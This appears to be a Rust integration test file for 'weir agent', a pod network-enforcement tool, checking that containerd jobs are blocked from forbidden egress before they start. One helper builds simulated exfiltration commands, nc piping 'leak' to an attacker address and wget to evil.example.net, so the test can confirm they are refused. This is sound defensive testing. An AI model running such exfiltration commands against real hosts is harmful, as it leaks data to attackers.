//! Pods on a real containerd, enforced by `weir agent`: in the kubelet's order, and whatever happens to the
//! agent meanwhile.

use std::time::Duration;

use anyhow::{Result, bail, ensure};
use weir_tests::agent::{Agent, AgentSpec};
use weir_tests::exec;
use weir_tests::lab::{Lab, addresses};
use weir_tests::node::{Cni, ContainerSpec, Image, Node, Options, Pod, PodSpec};
use weir_tests::profile::Profile;
use weir_tests::programs::{self, Program};

const LIMIT: Duration = Duration::from_secs(30);
/// Where nobody may send.
const FORBIDDEN_PORT: u16 = 8443;

/// A lab with a node, and the images that its pods use.
struct World {
    lab: Lab,
    node: Node,
    job: Image,
    barrier: Image,
}

impl World {
    fn new(options: &Options) -> Result<Self> {
        let lab = Lab::new()?;
        lab.attacker.listen(FORBIDDEN_PORT)?;
        let node = Node::start(&lab, options)?;
        let job = Image::busybox("job")
            .program(Program::StaticClient.path()?, "/bin/client")
            .program(Program::Probe.path()?, "/bin/probe")
            .program("/usr/bin/curl", "/bin/curl");
        let barrier = Image::busybox("weir-initc")
            .program(programs::target_folder()?.join("weir-initc"), "/bin/weir-initc");
        node.import(&job)?;
        node.import(&barrier)?;
        Ok(Self { lab, node, job, barrier })
    }

    fn barrier(&self, pod: &PodSpec, deadline: &str) -> ContainerSpec {
        ContainerSpec::new("weir-initc", &self.barrier)
            .command(&["/bin/weir-initc"])
            .env("WEIR_POD_UID", &pod.uid)
            .env("WEIR_DEADLINE", deadline)
    }

    /// A pod as the kubelet starts it: the barrier to its end, before anything else.
    fn pod(&self, spec: PodSpec) -> Result<Pod> {
        let barrier = self.barrier(&spec, "20s");
        let pod = self.node.run_pod(spec)?;
        let barrier = pod.start(barrier)?;
        let code = barrier.wait(LIMIT)?;
        ensure!(code == 0, "the barrier: {}", barrier.logs()?);
        Ok(pod)
    }
}

/// Allows the lab's file server by its name.
fn files_allowed() -> AgentSpec {
    let profile = Profile::deny_all().domains_at(&["files.example.com"], &["80"]);
    AgentSpec::default().namespace("ci", &profile.text())
}

/// What every job tries first.
fn forbidden() -> String {
    let (v4, v6) = (addresses::ATTACKER.v4, addresses::ATTACKER.v6);
    format!(
        "echo leak | nc -w 1 {v4} {FORBIDDEN_PORT}; echo leak | nc -w 1 {v6} {FORBIDDEN_PORT}; \
         wget -T 2 -q -O - http://evil.example.net/; true"
    )
}

fn kubelets_order(options: &Options) -> Result<()> {
    let world = World::new(options)?;
    let agent = files_allowed().start(&world.node)?;
    let watch = world.lab.watch(world.lab.attacker.host())?;
    let pod = world.pod(PodSpec::new("job"))?;
    let script = format!("{}; curl -sS http://files.example.com/", forbidden());
    let said = pod.start(ContainerSpec::new("build", &world.job).shell(&script))?.expect(0)?;
    ensure!(said.contains("hello from"), "{said}");
    let seen = watch.take()?;
    ensure!(seen.is_empty(), "the attacker saw {seen:?}");
    let uid = pod.spec().uid.clone();
    tells_of(&world.node, &uid)?;
    let events = agent.events()?;
    let refused = events.iter().find(|event| {
        event.kind() == "violation"
            && event.text("/destination/ip") == addresses::ATTACKER.v4.to_string()
    });
    let Some(refused) = refused else { bail!("no violation in {events:?}") };
    ensure!(refused.comm() == "nc" && refused.text("/pod/uid") == uid, "{refused}");
    pod.remove()?;
    agent.wait_for("phase=\"gone\"")?;
    agent.stop()?;
    Ok(())
}

/// What a person on the node sees of a pod: `weir pods`, and readiness.
fn tells_of(node: &Node, uid: &str) -> Result<()> {
    let pods = Agent::pods(node)?;
    let pod = pods.as_array().and_then(|pods| pods.iter().find(|pod| pod["uid"] == uid));
    let Some(pod) = pod else { bail!("no pod {uid} in {pods}") };
    ensure!(pod["state"] == "enforcing" && pod["profile"] == "lab/ci", "{pod}");
    ensure!(pod["mode"] == "block" && pod["namespace"] == "ci", "{pod}");
    let number = |key: &str| pod[key].as_u64().unwrap_or_default();
    ensure!(number("allow_entries") >= 1 && number("allowed") >= 1, "{pod}");
    ensure!(number("refused") >= 2 && number("lost") == 0, "{pod}");
    for path in ["healthz", "readyz"] {
        let mut curl = node.command("curl");
        curl.args(["-sS", "--fail-with-body", &format!("http://127.0.0.1:9411/{path}")]);
        exec::run(curl, LIMIT)?.expect_code(0)?;
    }
    Ok(())
}

#[test]
fn a_job_is_enforced_before_its_first_instruction() -> Result<()> {
    kubelets_order(&Options::default())
}

#[test]
fn a_job_is_enforced_with_the_ptp_plug_in() -> Result<()> {
    kubelets_order(&Options { cni: Cni::Ptp, ..Options::default() })
}

#[test]
fn without_an_agent_the_barrier_holds_the_job() -> Result<()> {
    let world = World::new(&Options::default())?;
    let spec = PodSpec::new("job");
    let barrier = world.barrier(&spec, "2s");
    let pod = world.node.run_pod(spec)?;
    let held = pod.start(barrier)?;
    ensure!(held.wait(LIMIT)? == 1, "{}", held.logs()?);
    Ok(())
}

#[test]
fn an_agent_that_comes_later_lets_the_barrier_pass() -> Result<()> {
    let world = World::new(&Options::default())?;
    let spec = PodSpec::new("job");
    let barrier = world.barrier(&spec, "20s");
    let pod = world.node.run_pod(spec)?;
    let held = pod.start(barrier)?;
    files_allowed().write(&world.node)?;
    let agent = Agent::spawn(&world.node)?;
    agent.wait_for("enforced")?;
    ensure!(held.wait(LIMIT)? == 0, "{}", held.logs()?);
    Ok(())
}
